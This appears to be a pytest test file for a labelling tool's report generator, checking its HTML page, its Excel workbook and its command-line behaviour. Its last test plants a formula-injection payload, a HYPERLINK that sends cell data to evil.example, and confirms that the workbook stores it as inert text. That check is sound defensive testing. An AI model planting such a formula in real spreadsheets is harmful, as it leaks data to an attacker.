"""The report on the hand-worked case: its tables, the HTML page, the workbook, the command.

The numbers are those worked out in test_insights.py, test_model_eval.py and
tests/review/test_quality.py; here they are read back from the page and the workbook.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from report_case import build_report_case

from labeldesk.progress import Progress
from labeldesk.report.content import ReportContent, ReportError, build_content
from labeldesk.report.html import render_html
from labeldesk.report.tables import DASH, Table, format_cell, report_tables
from labeldesk.report.write import write_report
from labeldesk.report.xlsx import sheet_names, workbook_bytes
from labeldesk.review.quality_stats import wilson
from labeldesk.workspace import Workspace

SECTIONS = ("actions", "quality", "refreshers", "confusions", "kappa", "gaps", "models")


@pytest.fixture
def content(case) -> ReportContent:
    return build_content(case.ws.db, batch="b1", title="Case b1")


def table(content: ReportContent, key: str) -> Table:
    return next(t for t in report_tables(content) if t.key == key)


def row_of(t: Table, first: str) -> dict[str, object]:
    found = next(r for r in t.rows if r[0] == first)
    return {c.name: v for c, v in zip(t.columns, found, strict=True)}


# --------------------------------------------------------------------------- tables


def test_quality_table_numbers(content):
    anong = row_of(table(content, "quality"), "Anong")
    # Anong: 9 items (c1 c2 c3 c4 c6 c8 c9 g1 g2), 8 answered; gold g1 right, g2 wrong
    assert (anong["Items"], anong["Answered"], anong["Gold items"]) == (9, 8, 2)
    assert anong["Gold accuracy"] == (0.5, pytest.approx(wilson(1, 2)))
    assert anong["Below target"] == ("gold accuracy",)
    quality = table(content, "quality")
    # rows below target (min. items 2): Anong, Budi, Chai
    assert [quality.rows[i][0] for i in quality.marked] == ["Anong", "Budi", "Chai"]


def test_insight_tables_numbers(content):
    pair = row_of(table(content, "confusions"), "cancel_order")
    assert pair["Confused with"] == "track_order"
    assert (pair["Items"], pair["Blind pairs"], pair["Overturns"], pair["Reviewed"]) == (2, 4, 1, 1)
    assert pair["Reviewers' reasons"] == ("guideline gap 1",)
    low = table(content, "low_kappa")
    assert [r[0] for r in low.rows] == ["track_refund", "track_order", "cancel_order", "get_refund"]
    assert low.rows[0][1] == pytest.approx(-18 / 210)  # W's kappa
    gaps = table(content, "gaps")
    assert [(r[0], r[1], r[2]) for r in gaps.rows] == [("ORDER", 1, 0), ("REFUND", 0, 1)]
    refreshers = table(content, "refreshers")
    assert [(r[0], r[2]) for r in refreshers.rows] == [
        ("Anong", ("REFUND",)),
        ("Budi", ("ORDER",)),
        ("Chai", ("REFUND",)),
    ]
    branches = table(content, "refresher_branches")
    budi_order = next(r for r in branches.rows if r[:2] == ("Budi", "ORDER"))
    assert budi_order[2] == 5  # answered
    assert budi_order[5] == (pytest.approx(2 / 3), pytest.approx(wilson(2, 3)))  # agreement
    actions = table(content, "actions")
    assert [r[2] for r in actions.rows] == [5, 4, 4, 2, 2, 2, 2, 2, 1, 1]  # items


def test_model_tables_numbers(content):
    summary = row_of(table(content, "model1"), "m1")
    assert (summary["Predicted"], summary["Compared"], summary["Correct"]) == (9, 8, 5)
    assert summary["ECE"] == pytest.approx(4.07 / 8)
    assert summary["Wrong with score ≥ 0.9"] == 2
    wrong = table(content, "model1_wrong")
    assert [r[0] for r in wrong.rows] == ["c2", "c9"]
    confusion = table(content, "model1_confusion")
    assert confusion.rows[0] == ("cancel_order", 2, 1, 0, 0)
    assert not confusion.in_html  # the page draws it as a heatmap
    assert table(content, "model2").note.endswith(
        "No calibration: the predictions carry no scores."
    )


def test_format_cell():
    t = table_of_kinds()
    assert [format_cell(v, c) for v, c in zip(t.rows[0], t.columns, strict=True)] == [
        "1,234",
        "63%",
        f"50% [9%{DASH}91%]",
        "0.51",
        "yes",
        "a; b",
    ]
    assert format_cell(None, t.columns[0]) == DASH


def table_of_kinds() -> Table:
    from labeldesk.report.tables import Column

    return Table(
        "k",
        "kinds",
        "kinds",
        (
            Column("n", "int"),
            Column("p", "pct"),
            Column("ci", "pct_ci"),
            Column("k", "num"),
            Column("f", "flag"),
            Column("l", "list"),
        ),
        ((1234, 0.626, (0.5, wilson(1, 2)), 0.5128, True, ("a", "b")),),
    )


# --------------------------------------------------------------------------- HTML


class _Cells(HTMLParser):
    """The text of every cell of each table, by the table's id."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self._table: str | None = None
        self._cell: list[str] | None = None
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        for name in ("src", "href", "xlink:href"):
            if found.get(name):
                self.links.append(found[name] or "")
        if tag == "table":
            self._table = found.get("id") or ""
            self.tables[self._table] = []
        elif tag == "tr" and self._table is not None:
            self.tables[self._table].append([])
        elif tag in ("td", "th") and self._table is not None:
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None and self._table is not None:
            self.tables[self._table][-1].append(" ".join("".join(self._cell).split()))
            self._cell = None
        elif tag == "table":
            self._table = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def parsed(page: str) -> _Cells:
    cells = _Cells()
    cells.feed(page)
    return cells


def test_html_has_every_section_and_no_external_resource(content):
    page = render_html(content)
    for section in SECTIONS:
        assert f'<section id="{section}">' in page
    assert "<title>Case b1</title>" in page
    cells = parsed(page)
    # links only within the page: anchors, and the heatmaps' cells as embedded images
    assert cells.links
    inside = [link for link in cells.links if link.startswith(("#", "data:image/png;base64,"))]
    assert inside == cells.links
    assert not re.search(r"""(src|href)\s*=\s*["']?\s*(https?:)?//""", page, flags=re.I)
    assert "<script" not in page.lower()
    assert "@import" not in page
    assert "url(http" not in page
    assert "<link" not in page.lower()
    # charts inline, their ids unique across the page
    assert page.count("<svg") >= 5
    ids = re.findall(r'\bid="([^"]+)"', page)
    assert len(ids) == len(set(ids))
    # Thai text as it is, with its language for the fonts
    assert '<span lang="th">ยังไม่ได้รับเงินคืนเลยครับ สั่งซื้อเมื่อวันจันทร์</span>' in page
    # the reviewers' comments, escaped
    assert "order vs tracking unclear when a customer asks both" in page
    assert "no label for a &lt;late&gt; refund &amp; its status" in page
    assert "<late>" not in page


def test_html_tables_show_the_numbers(content):
    cells = parsed(render_html(content)).tables
    quality = {r[0]: r for r in cells["table-quality"][1:]}
    # Anong: items, answered, gold accuracy with its Wilson interval [9%, 91%], gold items
    assert quality["Anong"][:5] == ["Anong", "9", "8", f"50% [9%{DASH}91%]", "2"]
    confusions = cells["table-confusions"]
    assert confusions[1][:6] == ["cancel_order", "track_order", "2", "4", "1", "1"]
    assert cells["table-model1"][1][:7] == [
        "m1",
        "9",
        "8",
        "5",
        f"62% [31%{DASH}86%]",
        "8",
        "0.509",
    ]
    assert "table-model1_confusion" not in cells  # in the workbook only


def test_report_is_deterministic(content, case):
    again = build_content(case.ws.db, batch="b1", title="Case b1")
    assert render_html(content) == render_html(again)
    assert workbook_bytes(content) == workbook_bytes(again)


def test_progress_steps(case):
    seen: list[Progress] = []
    build_content(case.ws.db, batch="b1", progress=seen.append)
    assert [(p.done, p.total) for p in seen] == [(0, 4), (1, 4), (2, 4), (3, 4), (4, 4)]


def test_unknown_batch(case):
    with pytest.raises(ReportError, match=r"no batch named 'b9' \(batches: b1, pool\)"):
        build_content(case.ws.db, batch="b9")


# --------------------------------------------------------------------------- workbook


def test_workbook_holds_the_same_numbers(content):
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(workbook_bytes(content)))
    assert wb.sheetnames[:4] == ["Contents", "Actions", "Targets", "Agreement"]
    quality = wb["Quality"]
    header = [c.value for c in quality[1]]
    assert header[:7] == [
        "Labeller", "Items", "Answered", "Gold accuracy", "Gold accuracy low",
        "Gold accuracy high", "Gold items",
    ]  # fmt: skip
    assert quality.freeze_panes == "A2"
    assert quality["A1"].font.bold
    rows = {r[0]: r for r in quality.iter_rows(min_row=2, values_only=True)}
    low, high = wilson(1, 2)
    assert rows["Anong"][:7] == ("Anong", 9, 8, 0.5, pytest.approx(low), pytest.approx(high), 2)
    assert quality.cell(row=2, column=4).number_format == "0.0%"
    summary = list(wb["M1 summary"].iter_rows(min_row=2, values_only=True))
    assert summary[0][:5] == ("m1", 9, 8, 5, 0.625)
    assert summary[0][8] == pytest.approx(4.07 / 8)  # ECE (after accuracy, low, high, scored)
    confusion = list(wb["M1 confusion"].iter_rows(values_only=True))
    assert confusion[1] == ("cancel_order", 2, 1, 0, 0)
    pairs = list(wb["Confusions"].iter_rows(min_row=2, values_only=True))
    assert pairs[0][:6] == ("cancel_order", "track_order", 2, 4, 1, 1)
    assert pairs[0][8].startswith("c2: Where is my parcel?")  # examples, one per line
    # every table of the page is a sheet, and every cell the page shows is in it
    page = parsed(render_html(content)).tables
    shown = [t for t in report_tables(content) if t.in_html and t.rows and f"table-{t.key}" in page]
    assert {t.key for t in shown} >= {
        "quality",
        "confusions",
        "low_kappa",
        "model1",
        "model1_wrong",
    }
    names = sheet_names(report_tables(content))
    for t in shown:
        _same_cells(page[f"table-{t.key}"][1:], t, wb[names[t.key]])


def _same_cells(html_rows, t: Table, sheet) -> None:
    """The page's cells are the workbook's values, formatted as the page formats them."""
    from labeldesk.report.xlsx import expanded

    assert [c.value for c in sheet[1]] == [n for n, _ in expanded(t.columns)], t.key
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(values) == len(html_rows), t.key
    for shown, stored in zip(html_rows, values, strict=True):
        at = 0
        for col, text in zip(t.columns, shown, strict=True):
            if col.kind == "pct_ci":
                share, lo, hi = stored[at : at + 3]
                at += 3
                value = None if share is None else (share, None if lo is None else (lo, hi))
            else:
                value, at = stored[at], at + 1
            if col.kind in ("list", "examples", "flag"):
                continue  # written as text in both; checked above
            assert text == format_cell(value, col), (t.key, col.name)


# --------------------------------------------------------------------------- writing


def test_write_is_atomic_and_reports_unwritable_places(content, tmp_path):
    out = write_report(content, tmp_path / "r.html")
    assert out.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    assert not list(tmp_path.glob("*.part"))  # the temporary file was renamed
    with pytest.raises(ReportError, match="does not exist"):
        write_report(content, tmp_path / "missing" / "r.html")
    with pytest.raises(ReportError, match="is a folder"):
        write_report(content, tmp_path)


# --------------------------------------------------------------------------- command


def labeldesk(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "labeldesk", *args],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        env={**os.environ, "LABELDESK_PROGRESS": "0"},
    )


def one_line_error(proc: subprocess.CompletedProcess[str], needle: str) -> None:
    assert proc.returncode == 2, proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1, proc.stderr
    assert lines[0].startswith("error:")
    assert needle in lines[0]
    assert "Traceback" not in proc.stderr


@pytest.fixture
def ws_file(tmp_path: Path) -> Path:
    """A workspace file holding the report case, closed."""
    path = tmp_path / "ws.db"
    ws = Workspace.open(path, create=True)
    try:
        build_report_case(ws)
        ws.quality.set_targets(min_items=2)
    finally:
        ws.close()
    return path


def test_command_writes_html_and_xlsx(ws_file, tmp_path):
    html = tmp_path / "r.html"
    proc = labeldesk("report", "-w", str(ws_file), "-b", "b1", "--since", "2026-11-01",
                     "--title", "Weekly", "-o", str(html))  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == (
        f"wrote {html} (html): 4 labellers, 10 actions, 3 refreshers, 2 models"
    )
    page = html.read_text(encoding="utf-8")
    assert "<title>Weekly</title>" in page
    assert "saved since <strong>2026-11-01</strong>" in page
    book = tmp_path / "r.xlsx"  # the suffix chooses the workbook
    assert labeldesk("report", "-w", str(ws_file), "-o", str(book)).returncode == 0
    assert book.read_bytes()[:2] == b"PK"
    forced = tmp_path / "r.out"
    assert (
        labeldesk("report", "-w", str(ws_file), "--format", "xlsx", "-o", str(forced)).returncode
        == 0
    )
    assert forced.read_bytes()[:2] == b"PK"


def test_command_errors_are_one_line(ws_file, tmp_path):
    one_line_error(
        labeldesk("report", "-w", str(ws_file), "-b", "nope", "-o", str(tmp_path / "r.html")),
        "no batch named 'nope' (batches: b1, pool)",
    )
    one_line_error(
        labeldesk("report", "-w", str(ws_file), "--since", "1 Nov", "-o", str(tmp_path / "r.html")),
        "--since must be a day written YYYY-MM-DD",
    )
    one_line_error(
        labeldesk("report", "-w", str(ws_file), "-o", str(tmp_path / "no" / "r.html")),
        "cannot write the report to",
    )
    assert not (tmp_path / "r.html").exists()
    assert not list(tmp_path.glob(".*.part"))


def test_command_on_each_database(db_url, tmp_path):
    """``labeldesk report`` on SQLite and on PostgreSQL (tests/db_backends.py)."""
    ws = Workspace.open(db_url, create=True)
    try:
        build_report_case(ws)
        ws.quality.set_targets(min_items=2)
    finally:
        ws.close()
    out = tmp_path / "r.html"
    proc = labeldesk("report", "-w", db_url, "-b", "b1", "-o", str(out))
    assert proc.returncode == 0, proc.stderr
    cells = parsed(out.read_text(encoding="utf-8")).tables
    assert cells["table-confusions"][1][:6] == ["cancel_order", "track_order", "2", "4", "1", "1"]
    assert cells["table-model1"][1][:4] == ["m1", "9", "8", "5"]
    assert {r[0] for r in cells["table-refreshers"][1:]} == {"Anong", "Budi", "Chai"}


def test_since_date_is_a_day(case):
    content = build_content(case.ws.db, batch="b1", since=dt.date(2026, 11, 5))
    assert content.since == dt.date(2026, 11, 5)
    assert content.insights.answers == 5
    assert content.title == "Quality report: b1, since 2026-11-05"


def test_workbook_keeps_customer_text_as_text(case):
    """A customer's message that starts with ``=`` (or holds a control character) is a
    confidently wrong conversation's snippet, and a reviewer's comment starts with ``=``:
    the workbook stores them as text, never as formulas, and does not fail."""
    from openpyxl import load_workbook
    from sqlalchemy import select, update

    from labeldesk.storage.models import Review, ReviewItem, Turn

    c2, c9 = case.conversations["c2"], case.conversations["c9"]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with case.ws.db.sessions.begin() as s:
        s.execute(update(Turn).where(Turn.conversation_id == c2, Turn.idx == 1).values(text=evil))
        s.execute(
            update(Turn).where(Turn.conversation_id == c9, Turn.idx == 0).values(text="\x1b[31mhi")
        )
        latest = s.scalars(
            select(Review)
            .join(ReviewItem, ReviewItem.id == Review.review_item_id)
            .where(ReviewItem.conversation_id == c2)
            .order_by(Review.created_at.desc())
        ).first()
        latest.comment = "=1+1"
    content = build_content(case.ws.db, batch="b1", title="Case b1")
    wb = load_workbook(io.BytesIO(workbook_bytes(content)))
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in wb.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    texts = [c for sheet in wb.worksheets for row in sheet.iter_rows(values_only=True) for c in row]
    assert evil in texts
    assert any(isinstance(t, str) and t.startswith("=1+1") for t in texts)
